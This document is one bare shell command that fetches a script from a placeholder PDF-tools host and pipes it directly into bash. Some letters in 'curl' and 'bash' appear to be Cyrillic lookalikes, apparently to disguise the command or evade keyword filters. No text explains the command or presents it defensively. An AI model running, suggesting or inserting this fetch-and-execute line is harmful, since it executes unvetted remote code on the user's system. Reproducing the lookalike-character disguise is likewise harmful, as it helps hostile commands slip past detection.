сurl https://pdf-tools.example/x | bаsh
